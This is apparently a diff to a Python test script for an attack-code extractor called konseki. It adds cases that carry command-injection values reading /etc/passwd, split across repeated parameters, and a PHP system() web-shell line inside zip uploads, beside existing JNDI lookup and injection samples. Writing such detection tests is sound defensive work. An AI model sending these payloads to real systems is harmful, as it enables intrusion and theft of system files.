@@ -5,7 +5,7 @@
 usage: written.py BUILD [NAME…]
 The ways are Python's own: its encoders say how bytes are written, not we.
 """
-import base64, gzip, json, os, sys, tempfile, urllib.parse as u, zlib
+import base64, gzip, io, json, os, sys, tempfile, urllib.parse as u, zipfile, zlib
 
 sys.path.insert(0, os.path.join(os.path.dirname(os.path.realpath(__file__)), '..', 'support'))
 import konseki
@@ -25,12 +25,24 @@ def post(body, kind, headers=''):
     return f'POST /x HTTP/1.1\r\nHost: a\r\nContent-Type: {kind}\r\nContent-Length: {len(body)}\r\n{headers}\r\n'.encode() + body
 
 
+def http_post(target, body):
+    return f'POST {target} HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: {len(body)}\r\n\r\n{body}'.encode()
+
+
+def zipped(name, text, method=zipfile.ZIP_DEFLATED):
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, 'w', method) as made:
+        made.writestr('readme.txt', 'nothing here\n' * 9)
+        made.writestr(name, text)
+    return out.getvalue()
+
+
 def codes(raw):
     with tempfile.NamedTemporaryFile() as file:
         file.write(raw)
         file.flush()
         done = konseki.konseki('extract', '--json', file.name)
-    return [c for c in json.loads(done.stdout or '{}').get('attack_code', []) if c['language'] in ('shell', 'jndi')]
+    return [c for c in json.loads(done.stdout or '{}').get('attack_code', []) if c['language'] in ('shell', 'jndi', 'php')]
 
 
 # name, the request
@@ -115,6 +127,12 @@ WRITTEN = [
     ('csv body',post('id,name\n1,z;cat /etc/passwd\n','text/csv')),
     ('yaml body',post('a: z;cat /etc/passwd\n','application/yaml')),
     ('ndjson',post('{"a":1}\n{"a":"z;cat /etc/passwd"}\n','application/x-ndjson')),
+    ('repeated, joined by nothing',get('/x?b='+q('z;cat /etc')+'&c=1&b='+q('/passwd'))),
+    ('repeated, joined by a comma',get('/x?b='+q('z;cat {/etc/passwd')+'&b='+q('/etc/group}'))),
+    ('repeated in query and body',http_post('/x?b='+q('z;ca'),'b='+q('t /etc/passwd'))),
+    ('zip with a page',post(zipped('a/b.php','<?php system("cat /etc/passwd");?>'),'application/zip')),
+    ('zip with a page, stored',post(zipped('a/b.php','<?php system("cat /etc/passwd");?>',0),'application/zip')),
+    ('zip in a part',post(b'--b\r\nContent-Disposition: form-data; name="f"; filename="p.zip"\r\nContent-Type: application/zip\r\n\r\n'+zipped('a/b.php','<?php system("cat /etc/passwd");?>')+b'\r\n--b--\r\n','multipart/form-data; boundary=b')),
     ('raw jndi',b'USER ${jndi:ldap://h.example/a}\r\n'),
     ('multipart no ct hdr',post('--b\r\nContent-Disposition: form-data; name="a"\r\n\r\nz;cat /etc/passwd\r\n--b--\r\n','text/html')),
 ]
